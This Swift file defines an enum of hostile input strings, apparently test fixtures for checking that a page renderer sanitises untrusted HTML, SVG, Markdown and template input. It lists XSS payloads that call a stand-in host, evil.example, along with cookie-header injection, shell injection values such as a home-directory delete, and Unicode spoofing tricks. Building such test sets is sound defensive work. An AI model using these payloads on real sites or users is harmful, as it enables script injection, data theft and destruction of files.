// SPDX-License-Identifier: Apache-2.0

/// What somebody might push to take over the page that shows it; `SCRIPT` stands for what would then run.
enum HostilePayloads {
    /// It leaves its mark on the page, and asks another host.
    static let script =
        "window.__owned=1;document.documentElement.setAttribute(`data-owned`,1);fetch(`http://evil.example/`)"

    static var all: [String] { templates.map { $0.replacing("SCRIPT", with: script) } }

    private static let templates: [String] = [
        // Elements and attributes.
        "<script>SCRIPT</script>", "\"><script>SCRIPT</script>", "'><script>SCRIPT</script>",
        "</title><script>SCRIPT</script>",
        "</textarea><script>SCRIPT</script>", "</code></pre><script>SCRIPT</script>",
        "</script><script>SCRIPT</script>",
        "<ScRiPt>SCRIPT</sCrIpT>", "<script src=http://evil.example/x.js></script>",
        "<script/x>SCRIPT</script>",
        "<<script>SCRIPT//<</script>", "<scr<script>ipt>SCRIPT</scr</script>ipt>",
        "<img src=x onerror=SCRIPT>",
        "<img src=http://evil.example/x.png>", "<img/src/onerror=SCRIPT>", "\" onfocus=SCRIPT autofocus x=\"",
        "' onmouseover=SCRIPT '", "` onclick=SCRIPT `", "x onerror=SCRIPT", "<body onload=SCRIPT>",
        "<details open ontoggle=SCRIPT>", "<input autofocus onfocus=SCRIPT>", "<marquee onstart=SCRIPT>",
        "<video><source onerror=SCRIPT></video>", "<audio src=http://evil.example/a onerror=SCRIPT>",
        "<iframe src=javascript:SCRIPT></iframe>", "<iframe srcdoc='<script>SCRIPT</script>'></iframe>",
        "<object data=http://evil.example/x></object>", "<embed src=http://evil.example/x>",
        "<base href=http://evil.example/>", "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
        "<link rel=stylesheet href=http://evil.example/x.css>",
        "<style>@import 'http://evil.example/x.css';</style>",
        "<div style='background:url(http://evil.example/x)'>",
        "<form action=http://evil.example/><button>Log in</button></form>",
        "<template><script>SCRIPT</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=SCRIPT>\">",
        "<math><mtext><table><mglyph><style><img src=x onerror=SCRIPT>", "<!--><script>SCRIPT</script>-->",
        "<![CDATA[<script>SCRIPT</script>]]>",
        "<!-- never closed <script>SCRIPT</script>", "<?php SCRIPT ?><script>SCRIPT</script>",
        "<a href=javascript:SCRIPT>x</a>",
        "<a id=configuration name=getElementById>clobbers</a><form id=problems><input name=attributes>",
        // SVG.
        "<svg onload=SCRIPT>", "<svg><script>SCRIPT</script></svg>",
        "<svg><script href=http://evil.example/x.js /></svg>",
        "<svg><a xlink:href=javascript:SCRIPT><text>x</text></a></svg>",
        "<svg><animate onbegin=SCRIPT attributeName=x dur=1s>",
        "<svg><use href='http://evil.example/x.svg#x'/></svg>",
        "<svg><foreignObject><iframe src=javascript:SCRIPT></iframe></foreignObject></svg>",
        "<svg><image href=http://evil.example/x.png /></svg>",
        // Markdown.
        "[x](javascript:SCRIPT)", "[x](JaVaScRiPt:SCRIPT)", "[x](java\tscript:SCRIPT)",
        "[x](&#106;avascript:SCRIPT)",
        "[x](data:text/html,<script>SCRIPT</script>)", "[x](vbscript:SCRIPT)",
        "![x](http://evil.example/x.png)",
        "![x](javascript:SCRIPT)", "![x\"onerror=SCRIPT x=\"](http://evil.example/x.png)",
        "[x](http://evil.example/\"onclick=SCRIPT)",
        "[x](<http://evil.example/' onclick='SCRIPT>)", "<javascript:SCRIPT>",
        "<http://evil.example/\"onclick=SCRIPT>",
        "[x][y]\n\n[y]: javascript:SCRIPT \"title\"", "```\"><script>SCRIPT</script>\nx\n```",
        "`</code><script>SCRIPT</script>`",
        "|a|b|\n|-|-|\n|<script>SCRIPT</script>|[x](javascript:SCRIPT)|", "# <img src=x onerror=SCRIPT>",
        "- [ ] <script>SCRIPT</script>",
        "www.evil.example/\"onmouseover=SCRIPT", "[![x](http://evil.example/a.png)](javascript:SCRIPT)",
        "[x](//evil.example/)",
        "[x](\\\\evil.example)", "[a](#configuration)\n# configuration",
        // Templates, headers, quotes of other languages.
        "{{#name}}{{{reference}}}{{/name}}", "{{{readme}}}<script>SCRIPT</script>",
        "{{% CONTENT_TYPE:TEXT}}<script>SCRIPT</script>",
        "x\r\nSet-Cookie: owned=1\r\n\r\n<script>SCRIPT</script>", "x\u{0}<script>SCRIPT</script>",
        "%0d%0aSet-Cookie:%20owned=1",
        "'; rm -rf ~; '", "$(touch /tmp/owned)`touch /tmp/owned`", "x\n  injected: true\n- yes",
        "*/ SCRIPT /*", "&lt;script&gt;SCRIPT&lt;/script&gt;",
        "&#60;script&#62;SCRIPT&#60;/script&#62;", "\\u003cscript\\u003eSCRIPT\\u003c/script\\u003e",
        // Unicode.
        "\u{202E}tpircs\u{202C}", "safe\u{202E}gpj.exe", "\u{2066}\u{2067}isolate\u{2069}", "ad\u{200B}min",
        "\u{FEFF}start", "а\u{0440}р\u{04CF}е.example",
        "\"\u{301} onfocus=SCRIPT autofocus \u{301}\"", "<\u{301}script>SCRIPT</script>",
        "\u{FF1C}script\u{FF1E}SCRIPT\u{FF1C}/script\u{FF1E}",
        "\u{2028}SCRIPT\u{2029}", "tag\u{E0041}\u{E0042}", "\u{85}line\u{9B}31m",
        "Z\u{351}\u{35F}\u{348}a\u{321}\u{34A}l\u{334}g\u{343}o",
    ]
}
